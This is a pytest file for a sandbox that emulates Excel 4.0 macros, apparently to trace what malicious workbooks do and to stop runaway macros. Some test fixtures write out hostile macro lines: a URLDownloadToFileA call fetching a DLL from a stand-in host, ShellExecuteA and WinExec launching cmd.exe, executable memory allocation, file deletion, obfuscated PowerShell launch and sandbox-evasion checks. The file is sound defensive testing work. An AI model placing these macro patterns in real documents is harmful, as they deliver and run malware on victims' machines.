"""Excel 4 macros as they run in the traced world: what their functions mean, and that none runs for ever."""

from __future__ import annotations

import time

import pytest
from msgspec import structs

from workers.sandbox.excel_formulas import FormulaError, read
from workers.sandbox.excel_macros import run
from workers.workbook import Cell, Sheet, Workbook

FOREVER = 60.0


def workbook(*formulas: str, cells: dict[tuple[int, int], Cell] | None = None, **names: str) -> Workbook:
    """Formulas of A1, A2, ... on a macro sheet that starts by itself, and other cells of it."""
    column = {(row, 0): Cell(formula) for row, formula in enumerate(formulas) if formula}
    sheet = Sheet(name="Macro1", is_macro=True, cells={**column, **(cells or {})})
    other = Sheet(name="Data", cells={(0, 0): Cell(value=67.0), (1, 0): Cell(value="calc"), (4, 1): Cell("A1+1", 68.0)})
    return Workbook(sheets=(other, sheet), names={"Auto_Open": "Macro1!$A$1", **names}, starts=("Auto_Open",))


def acts(*formulas: str, cells: dict[tuple[int, int], Cell] | None = None, **names: str) -> list[str]:
    ran = run(workbook(*formulas, cells=cells, **names), seconds=FOREVER)
    return [f"{entry.kind} {entry.what}" for entry in ran.entries]


# An expression that a message shows, and what it comes to.
SHOWS: dict[str, tuple[str, str]] = {
    "characters": ("CHAR(72)&CHAR(105)", "Hi"),
    "a piece": ('MID("abcdef",2,3)&LEFT("xyz")&RIGHT("xyz",2)', "bcdxyz"),
    "joined": ('CONCATENATE("a",1,TRUE)', "a1TRUE"),
    "arithmetic": ("(2+3)*4/8-2^2%", "1.48604052020997"),
    "rank": ("2+3*2^2", "14"),
    "minus": ("-3+5", "2"),
    "compared": ('IF("A"="a","same","other")', "same"),
    "a cell of another sheet": ("CHAR(Data!A1)&Data!$A$2", "Ccalc"),
    "a formula of another sheet": ("CHAR(Data!B5)", "D"),
    "a quoted sheet": ("'Data'!A2", "calc"),
    "R1C1": ("Data!R2C1", "calc"),
    "a sum of cells": ("SUM(Data!A1:A3)", "67"),
    "through text": ('INDIRECT("Data!A"&2)', "calc"),
    "moved": ("OFFSET(Data!A1,1,0)", "calc"),
    "relative": ('ABSREF("R[1]C",Data!A1)', "calc"),
    "by number": ("INDEX(Data!A1:B5,2,1)", "calc"),
    "chosen": ('CHOOSE(2,"a","b")', "b"),
    "replaced": ('SUBSTITUTE("cXlc","X","a")&REPLACE("abcd",2,2,"-")', "calca-d"),
    "found": ('FIND("c","abc")&SEARCH("C","abc")', "33"),
    "repeated": ('REPT("ab",3)', "ababab"),
    "exclusive or": ("CHAR(BITXOR(73,1))", "H"),
    "hexadecimal": ('CHAR(HEX2DEC("4A"))', "J"),
    "rounded": ("ROUND(2.5,0)&INT(-1.5)&MOD(-3,5)", "3-22"),
    "an error caught": ('IFERROR(1/0,"none")', "none"),
    "of a cell that has not run": ("B9", "later"),
    "evaluated": ('EVALUATE("CHAR(65)&""b""")', "Ab"),
    "a name": ("greeting", "hello"),
    "where it is": ("GET.WORKSPACE(2)", "16.0"),
    "length": ('LEN(REPT("a",99999))', "32767"),
}


@pytest.mark.parametrize("name", SHOWS)
def test_what_a_formula_comes_to(name: str) -> None:
    expression, shown = SHOWS[name]
    cells = {(8, 1): Cell('"la"&"ter"')}
    assert f"shows {shown}" in acts(f"ALERT({expression})", cells=cells, greeting='"hel"&"lo"')


DOES: dict[str, tuple[list[str], str]] = {
    "starts": (['EXEC("ca"&CHAR(108)&"c")'], "starts calc"),
    "goes on elsewhere": (["GOTO(A4)", 'EXEC("a")', "HALT()", 'EXEC("b")'], "starts b"),
    "past empty cells": (["TRUE", "", "", 'EXEC("b")'], "starts b"),
    "a subroutine": (["RUN(A3)", "HALT()", 'EXEC("b")', "RETURN()"], "starts b"),
    "a subroutine by its cell": (["A3()", "HALT()", 'EXEC("b")'], "starts b"),
    "what a subroutine gives back": (['EXEC("ca"&A3())', "HALT()", 'RETURN("lc")'], "starts calc"),
    "a value that is set": (['SET.VALUE(B1,"ca")', 'EXEC(B1&"lc")'], "starts calc"),
    "a name that is set": (['SET.NAME("x","ca")', 'EXEC(x&"lc")'], "starts calc"),
    "a name for a cell": (['SET.NAME("x",B1)', 'SET.VALUE(x,"calc")', "EXEC(B1)"], "starts calc"),
    "a formula that is written": (['FORMULA("=EXEC(""ca""&""lc"")",A2)'], "starts calc"),
    "formulas that are filled in": (['FORMULA.FILL("=EXEC(""calc"")",A2:A3)'], "starts calc"),
    "a formula at the place that is selected": (["SELECT(A3)", 'FORMULA("=EXEC(""calc"")")'], "starts calc"),
    "what it is said to be": (['FORMULA("=EXEC(""calc"")",A2)'], 'evaluates Macro1!A2 =EXEC("calc")'),
    "branches": (['IF(1=2,EXEC("a"),EXEC("b"))'], "starts b"),
    "blocks": (["IF(1=2)", 'EXEC("a")', "ELSE.IF(1=1)", 'EXEC("b")', "ELSE()", 'EXEC("c")', "END.IF()"], "starts b"),
    "other blocks": (["IF(1=2)", 'EXEC("a")', "ELSE()", 'EXEC("c")', "END.IF()"], "starts c"),
    "while": (['SET.VALUE(B1,"")', "WHILE(LEN(B1)<3)", 'SET.VALUE(B1,B1&"x")', "NEXT()", "EXEC(B1)"], "starts xxx"),
    "for": (['SET.VALUE(B1,"")', 'FOR("i",1,3)', "SET.VALUE(B1,B1&i)", "NEXT()", "EXEC(B1)"], "starts 123"),
    "for each cell": (['FOR.CELL("c",Data!A1:A2)', "ALERT(c)", "NEXT()"], "shows calc"),
    "no round": (['FOR("i",2,1)', 'EXEC("a")', "NEXT()", 'EXEC("b")'], "starts b"),
    "behind much else": (['FOR("i",1,400)', "ALERT(i)", "NEXT()", 'EXEC("b")'], "starts b"),
    "broken off": (["WHILE(TRUE)", "BREAK()", "NEXT()", 'EXEC("b")'], "starts b"),
    "later": (['ON.TIME(NOW()+1,"A3")', "HALT()", 'EXEC("b")'], "starts b"),
    "past an error": (["1/0", 'EXEC("b")'], "starts b"),
    "past what cannot be read": (["((", 'EXEC("b")'], "starts b"),
    "past less than a function needs": (['SUBSTITUTE("a","b")', "BITXOR(1)", 'EXEC("b")'], "starts b"),
    "past numbers without an end": (['TEXT(1E999,"00")', "ROUND(1E308,15)", 'EXEC("b")'], "starts b"),
    "past what nobody knows": (["WORKBOOK.HIDE(1)", 'EXEC("b")'], "starts b"),
    "a download": (
        ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/"&"a.dll","C:\\a.dll",0,0)'],
        "fetches GET http://a.example/a.dll",
    ),
    "a file of a download": (
        ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/a.dll","C:\\a.dll",0,0)'],
        "writes C:\\a.dll",
    ),
    "under another name": (
        ['REGISTER("shell32","ShellExecuteA","JJCCCJJ","go",,1,9)', 'go(0,"open","cmd.exe","/c a",0,5)'],
        "starts cmd.exe /c a",
    ),
    "by what REGISTER gives": (
        ['SET.NAME("f",REGISTER("kernel32","WinExec","JCJ"))', 'CALL(f,"cmd /c a",0)'],
        "starts cmd /c a",
    ),
    "a library of its own": (['CALL("C:\\a.dll","DllRegisterServer","J")'], "starts C:\\a.dll,DllRegisterServer"),
    "memory": (
        ['CALL("Kernel32","VirtualAlloc","JJJJJ",0,8192,4096,64)'],
        "calls Kernel32!VirtualAlloc(0, 8192, 4096, 64)",
    ),
    "a file": (['SET.VALUE(B1,FOPEN("C:\\a.vbs",3))', 'FWRITELN(B1,"x = 1")', "FCLOSE(B1)"], "writes C:\\a.vbs"),
    "a file that stays open": (['SET.VALUE(B1,FOPEN("C:\\a.vbs",3))', 'FWRITE(B1,"x = 1")'], "writes C:\\a.vbs"),
    "the last of several files": (
        ['FOPEN("C:\\a",3)', 'SET.VALUE(B1,FOPEN("C:\\b",3))', "FCLOSE(A1)", 'FOPEN("C:\\c",3)', 'FWRITE(B1,"x")'],
        "writes C:\\b",
    ),
    "a conversation": (['INITIATE("cmd","/c calc")'], "starts cmd /c calc"),
    "a workbook from its server": (['OPEN("http://a.example/a.xls")'], "fetches GET http://a.example/a.xls"),
    "deleted": (['FILE.DELETE("C:\\a.txt")'], "deletes C:\\a.txt"),
    "what it asks": (["IF(GET.WORKSPACE(19),,CLOSE(FALSE))"], "asks system GET.WORKSPACE(19)"),
    "a machine with a mouse": (["IF(GET.WORKSPACE(19),,CLOSE(FALSE))", 'EXEC("a")'], "starts a"),
    "one that runs away": (["IF(GET.WORKSPACE(13)<9000,CLOSE(FALSE),)", 'EXEC("a")'], "starts a"),
    "hidden": (['EXEC("pow"&"ersh"&"ell")'], "reveals powershell"),
}  # fmt: skip


@pytest.mark.parametrize("name", DOES)
def test_what_a_macro_does_is_written_down(name: str) -> None:
    formulas, act = DOES[name]
    assert act in acts(*formulas)


QUIET: dict[str, list[str]] = {
    "nothing": [],
    "an end": ["HALT()", 'EXEC("a")'],
    "a return": ["RETURN()", 'EXEC("a")'],
    "a branch that is not taken": ['IF(1=2,EXEC("a"))'],
    "a text": ['"EXEC(calc)"'],
    "no command": ['EXEC("")'],
    "another column": ["TRUE"],
    "a value": ["SET.VALUE(B1,1)", "RETURN(B1)"],
    "a file that is read": ['FREAD(FOPEN("a.txt",2),9)'],
    "a loop that ends": ['FOR("i",1,10)', "NEXT()"],
    "no function": ['EXE("calc")'],
    "breaks off": ['EXEC("a"'],
}


@pytest.mark.parametrize("formulas", QUIET.values(), ids=QUIET)
def test_what_does_not_run_says_nothing(formulas: list[str]) -> None:
    assert acts(*formulas, cells={(0, 2): Cell('EXEC("b")')}) == []


def test_content_of_a_file_is_kept() -> None:
    ran = run(workbook('SET.VALUE(B1,FOPEN("a.vbs"))', 'FWRITELN(B1,"x=1")', 'FWRITE(B1,"y")'), seconds=FOREVER)
    assert [entry.content for entry in ran.entries] == ["x=1\r\ny"]


def test_macros_that_nothing_starts_do_not_run() -> None:
    sheet = Sheet(name="Macro1", is_macro=True, cells={(0, 0): Cell('EXEC("a")')})
    assert run(Workbook(sheets=(sheet,)), seconds=FOREVER).entries == ()
    assert run(Workbook(sheets=(sheet,), names={"x": "A1"}, starts=("y",)), seconds=FOREVER).entries == ()
    assert run(Workbook(names={"x": "A1"}, starts=("x",)), seconds=FOREVER).entries == ()


# Each must end soon, in little memory, and leave what came before.
HOSTILE: dict[str, list[str]] = {
    "endless": ["GOTO(A2)"],
    "an endless loop": ["WHILE(TRUE)", "NEXT()"],
    "a loop without steps": ['FOR("i",1,2,0)', "NEXT()"],
    "a long loop": ['FOR("i",1,1E300)', "SET.VALUE(B1,i)", "NEXT()"],
    "calls itself": ["A2()"],
    "calls itself twice": ["A2()&A2()"],
    "growth": ['SET.NAME("x","aaaaaaaa")', 'SET.NAME("x",x&x)', "GOTO(A3)"],
    "growth in cells": ['FORMULA(REPT("a",32767),OFFSET(B1,B1,0))', "SET.VALUE(B1,B1+1)", "GOTO(A2)"],
    "a long text": ['ALERT(LEN(REPT(REPT("a",32767),1E9)))'],
    "replaced by more": ['LEN(SUBSTITUTE(REPT("a",32767),"a",REPT("b",32767)))', "GOTO(A2)"],
    "asks for itself": ["B1", "GOTO(A2)"],
    "a large area": ["SUM(A1:XFD1048576)", "GOTO(A2)"],
    "fills a large area": ['FORMULA.FILL("=A1",B1:XFD1048576)', "GOTO(A2)"],
    "brackets": ["(" * 4_000],
    "calls": ["A(" * 4_000],
    "sums": ["1" + "+1" * 8_000, "GOTO(A2)"],
    "names that mean each other": ["first", "GOTO(A2)"],
    "evaluates itself": ['SET.NAME("x","EVALUATE(x)")', "EVALUATE(x)", "GOTO(A3)"],
    "nothing ends it": ["WHILE(FALSE)"],
    "blocks": ["IF(FALSE)"] * 3_000,
    "no number": ["MOD(1E308*10,0)", "2^99999", "-2^0.5", "CHAR(0)", "INT(1E308*10)", "ROUND(1,99999)", "GOTO(A2)"],
    "little": ["MID()", "OFFSET()", "GOTO()", "RUN()", "SET.VALUE()", "SET.NAME()", "FORMULA()", "IF()", "FOR()",
               "CALL()", "REGISTER()", "EXEC()", "FOPEN()", "FWRITE()", "FCLOSE()", "GET.CELL()", "INDEX()",
               "ON.TIME()"],
}  # fmt: skip


@pytest.mark.parametrize("formulas", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_macro_ends(formulas: list[str]) -> None:
    began = time.process_time()
    cells = {(0, 1): Cell("B1&C1&B1&C1"), (0, 2): Cell("B1&B1&C1&C1")}
    ran = run(
        workbook('ALERT("here")', *formulas, cells=cells, first="second&second", second="first&first"), seconds=0.4
    )
    assert ("shows", "here") in [(entry.kind, entry.what) for entry in ran.entries]
    # Bounded is what counts; the machine may be busy.
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "formula",
    ["", "(", ")", "1+", "A1:", '"', "a(", "{1", "#", "=1", "1 2", "A1 B1", "'x!A1", "R[1", "A9999999", "~", "(" * 99],
)
def test_what_is_no_formula_is_said_to_be_none(formula: str) -> None:
    with pytest.raises(FormulaError):
        read(formula)


@pytest.mark.parametrize("name", ["HALT()", "GOTO(Macro1!$A$1)", "RETURN()", "RUN(Macro1!$A$1)", "1+", "Nowhere!$A$1"])
def test_names_that_start_and_are_no_place(name: str) -> None:
    """A name beside it, which is one, still starts."""
    book = structs.replace(workbook('EXEC("calc")', Auto_Close=name), starts=("Auto_Close", "Auto_Open"))
    assert "starts calc" in [f"{entry.kind} {entry.what}" for entry in run(book, seconds=FOREVER).entries]
